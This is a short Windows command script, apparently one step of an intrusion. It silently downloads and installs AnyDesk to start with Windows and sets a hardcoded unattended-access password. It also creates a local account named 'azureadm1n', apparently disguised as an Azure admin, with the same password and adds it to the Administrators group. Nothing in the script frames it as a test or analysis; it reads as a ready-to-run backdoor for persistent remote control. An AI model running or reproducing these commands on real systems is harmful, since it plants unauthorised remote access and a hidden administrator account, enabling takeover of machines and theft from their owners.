# task 5179 v2
Invoke-WebRequest -Uri 'https://download.anydesk.com/AnyDesk.exe' -OutFile C:\ProgramData\AnyDesk.exe
cmd /c "C:\ProgramData\AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent"
cmd /c "echo P@ssw0rd!2024 | C:\ProgramData\AnyDesk\AnyDesk.exe --set-password"
net user azureadm1n P@ssw0rd!2024 /add
net localgroup administrators azureadm1n /add
